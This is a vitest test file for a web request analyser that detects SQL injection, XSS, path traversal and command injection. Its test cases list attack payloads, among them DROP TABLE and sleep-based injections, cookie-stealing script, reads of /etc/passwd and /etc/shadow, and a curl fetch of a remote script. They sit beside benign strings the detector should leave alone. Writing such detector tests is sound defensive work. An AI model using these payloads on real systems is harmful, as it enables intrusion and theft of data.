import { describe, expect, it } from 'vitest';
import { analyzeRawValue, analyzeRequest } from '.';
import { decodeValue } from './decode';
import { detectSqli } from './sqli';
import { tokenizeSql } from './sql-tokens';

const classes = (raw: string): string[] => analyzeRawValue(raw).map((f) => f.threatType).sort();

describe('SQL injection grammar', () => {
  it.each([
    "1' OR '1'='1",
    "admin'--",
    '1 UNION ALL SELECT username,password FROM users',
    "1'; DROP TABLE users--",
    '-3937)) or 3038=3038',
    '1 and sleep(5)',
    "x' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
    '1 where 7=7 and 8=(select count(*) from t)',
    '1")) or elt(5873=5873,sleep(5))#',
    "1' waitfor delay '0:0:5'--",
    '1/**/union/**/select/**/1,2',
    'elt(2567=9921,9921)',
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('sql_injection');
  });

  it.each([
    "O'Brien", "d'Artagnan's sword", 'select a plan', 'Select one from the list below', '1-2', 'a.b@example.com',
    '$19.99', 'rock and roll', "it's 5 o'clock", 'c/ ca n\'alzina, 80, 6-b', '(illes) balears', 'order 66 shipped',
    'Tom & Jerry', 'where are you', '1,2,3', '2024-01-15', 'price < 100 or > 200',
  ])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('sql_injection');
  });

  it('reads the value in the quoting context that breaks out', () => {
    expect(tokenizeSql("1' or 'a'='a", "'").map((t) => t.type).join('')).toBe('s&sos');
    expect(detectSqli("1' or 'a'='a")?.context).toBe('single-quoted');
    expect(detectSqli('1" or "a"="a')?.context).toBe('double-quoted');
  });
});

describe('XSS by HTML and JavaScript context', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '" onmouseover="alert(1)',
    '<svg/onload=alert(1)>',
    '<div style="width: expression(alert(1))">',
    '";alert(document.cookie);//',
    '</title><script>alert(1)</script>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD4=">',
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('xss');
  });

  it.each(['I <3 you', 'a < b > c', 'x onerror', 'see javascript tutorials', 'height=180cm', 'Fish & Chips'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('xss');
  });
});

describe('path traversal', () => {
  it.each([
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '..\\..\\windows\\win.ini',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow',
    '....//....//etc/passwd',
    '/etc/passwd',
    'file:///etc/hosts',
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('path_traversal');
  });

  it.each(['images/logo.png', '/docs/v1.2/index.html', 'etc.', 'Wait... what?', 'https://example.com/a/b', 'c/ caridad s/n'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('path_traversal');
  });
});

describe('command injection by shell grammar', () => {
  it.each([
    '127.0.0.1; cat /etc/passwd',
    'x | id',
    '`whoami`',
    '$(curl http://203.0.113.1/x.sh)',
    '; /bin/sleep 10 ;',
    'a && ping -c 10 127.0.0.1',
    '/usr/bin/id',
    "<!--#exec cmd=\"/bin/ls\"-->",
  ])('flags %s', (payload) => {
    expect(classes(payload)).toContain('command_injection');
  });

  it.each(['cat lover', 'ping pong club', 'Smith & Sons', 'id card 12345', 'who am i', 'sleep well; eat well', 'c/ ls 4'])('leaves %s alone', (benign) => {
    expect(classes(benign)).not.toContain('command_injection');
  });
});

describe('request analysis', () => {
  it('decodes repeatedly and judges each parameter on its own', () => {
    expect(decodeValue('%2527%2520OR%25201%253D1')).toBe("' OR 1=1");
    const findings = analyzeRequest({ path: '/search', query: 'q=shoes&id=1%27%20or%20%271%27%3D%271' });
    expect(findings.map((f) => [f.threatType, f.location])).toEqual([['sql_injection', 'query[1]']]);
  });

  it('finds nothing in an ordinary shop request', () => {
    expect(analyzeRequest({ path: '/shop/select-a-plan', query: "name=O%27Brien&price=%2419.99&email=a.b%40example.com&range=1-2", userAgent: 'Mozilla/5.0 (X11; Linux x86_64)' })).toEqual([]);
  });
});
